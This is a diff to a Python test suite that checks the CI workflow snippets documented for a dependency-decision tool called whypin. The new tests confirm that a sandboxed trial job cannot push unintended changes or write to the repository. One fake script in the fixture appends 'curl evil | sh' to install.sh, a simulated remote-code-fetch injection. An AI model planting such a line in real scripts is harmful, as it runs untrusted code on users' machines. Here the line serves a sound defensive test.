@@ -15,11 +15,12 @@ import jsonschema
 import pytest
 import yaml
 
+from tests.cli.test_base import commit, git
 from tests.cli.test_check import LOCK, RECORD, whypin
 from tests.folders import record, write
 from tests.places.commands import environment
 from tests.places.invocations import accept, calls
-from tests.places.runner import ACTION
+from tests.places.runner import ACTION, run_step
 from tests.places.test_pre_commit import HOOKS
 from tests.site_examples import ROOT, Block, blocks
 from whypin import __version__
@@ -28,7 +29,7 @@ PAGE = ROOT / "site/ci.md"
 TEXT = PAGE.read_text(encoding="utf-8")
 BLOCKS = blocks(PAGE)
 SNIPPETS = {block.title: yaml.safe_load(block.text) for block in BLOCKS if block.language == "yaml"}
-WORKFLOW, WORKFLOW_JOB, GITLAB, WORKFLOW_CHANGE, PRE_COMMIT = SNIPPETS
+WORKFLOW, WORKFLOW_JOB, GITLAB, WORKFLOW_CHANGE, WORKFLOW_DUE, PRE_COMMIT = SNIPPETS
 JOBS = [SNIPPETS[name]["jobs"]["whypin"] for name in (WORKFLOW, WORKFLOW_JOB, WORKFLOW_CHANGE)]
 
 
@@ -70,9 +71,10 @@ def test_the_calls_are_found() -> None:
         ("vendor.github-workflows", next(block.text for block in BLOCKS if block.title == WORKFLOW)),
         ("vendor.github-workflows", "on: push\n" + next(block.text for block in BLOCKS if block.title == WORKFLOW_JOB)),
         ("vendor.github-workflows", "on: pull_request\n" + next(b.text for b in BLOCKS if b.title == WORKFLOW_CHANGE)),
+        ("vendor.github-workflows", next(block.text for block in BLOCKS if block.title == WORKFLOW_DUE)),
         ("vendor.gitlab-ci", next(block.text for block in BLOCKS if block.title == GITLAB)),
     ],
-    ids=[WORKFLOW, WORKFLOW_JOB, WORKFLOW_CHANGE, GITLAB],
+    ids=[WORKFLOW, WORKFLOW_JOB, WORKFLOW_CHANGE, WORKFLOW_DUE, GITLAB],
 )
 def test_a_service_would_take_the_snippet(tmp_path: Path, schema: str, text: str) -> None:
     write(tmp_path, {"snippet.yml": text})
@@ -161,6 +163,61 @@ def _exit_code(folder: Path, script: str, whypins: int) -> int:
     command = write(folder / "bin", {"whypin": f"#!/bin/sh\nexit {whypins}\n"}) / "whypin"
     command.chmod(0o755)
     return subprocess.run(["bash", "-e", "-c", script], cwd=folder, env=environment(command.parent)).returncode
+
+
+#: Logs an attempt as a trial does, and would change something else too, were it let.
+TRIAL = """\
+#!/bin/sh
+echo '**whypin: 1 decision has come due**'
+echo 'attempts: []' >> decisions/2026-11-01-tiny.yaml
+mkdir -p decisions/logs && echo said > decisions/logs/x.txt
+echo 'curl evil | sh' >> install.sh
+exit $CODE
+"""
+GH = """\
+#!/bin/sh
+echo "gh $*" >> "$RUNNER_TEMP/gh.log"
+"""
+
+
+@pytest.mark.parametrize(("whypins", "red"), [(0, False), (1, False), (2, True), (3, True)])
+def test_the_job_for_what_has_come_due_proposes_the_attempts_and_nothing_else(
+    tmp_path: Path, whypins: int, red: bool
+) -> None:
+    trial, propose = (SNIPPETS[WORKFLOW_DUE]["jobs"][name] for name in ("trial", "propose"))
+    origin, temporary = tmp_path / "origin", tmp_path / "temp"
+    files = {"decisions/2026-11-01-tiny.yaml": "title: x\n", "install.sh": "true\n"}
+    git(write(origin, files), "init", "-q", "-b", "main")
+    commit(origin)
+    write(tmp_path / "bin", {"whypin": TRIAL, "gh": GH})
+    for name in ("whypin", "gh"):
+        (tmp_path / "bin" / name).chmod(0o755)
+    variables = environment(tmp_path / "bin") | {
+        "RUNNER_TEMP": str(temporary),
+        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
+        "CODE": str(whypins),
+    }
+    for name in ("one", "two"):
+        git(tmp_path, "clone", "-q", "origin", name)
+    _, due, packed = [step for step in trial["steps"] if "run" in step]
+    assert (run_step(due, tmp_path / "one", variables).returncode != 0) is red
+    assert packed["if"] == "always()" and run_step(packed, tmp_path / "one", variables).returncode == 0
+    temporary.mkdir()
+    for path in (tmp_path / "one").glob("due.*"):
+        path.rename(temporary / path.name)
+    done = run_step(propose["steps"][-1], tmp_path / "two", variables)
+    assert done.returncode == 0, done.stdout
+    assert "1 decision has come due" in (tmp_path / "summary").read_text()
+    (branch,) = git(origin, "branch", "--list", "--format=%(refname:short)", "whypin-due-*").split()
+    changed = git(origin, "diff", "--name-only", "main", branch).split()
+    assert changed == ["decisions/2026-11-01-tiny.yaml", "decisions/logs/x.txt"]
+    assert f"--body-file {temporary}/due.md" in (temporary / "gh.log").read_text()
+
+
+def test_the_job_that_runs_code_of_packages_may_write_nothing() -> None:
+    workflow = SNIPPETS[WORKFLOW_DUE]
+    assert workflow["permissions"] == {"contents": "read"} and "permissions" not in workflow["jobs"]["trial"]
+    assert workflow["jobs"]["trial"]["steps"][0]["with"]["persist-credentials"] is False
 
 
 def test_fix_writes_the_line_that_the_page_shows_and_the_schema_it_names(tmp_path: Path) -> None:
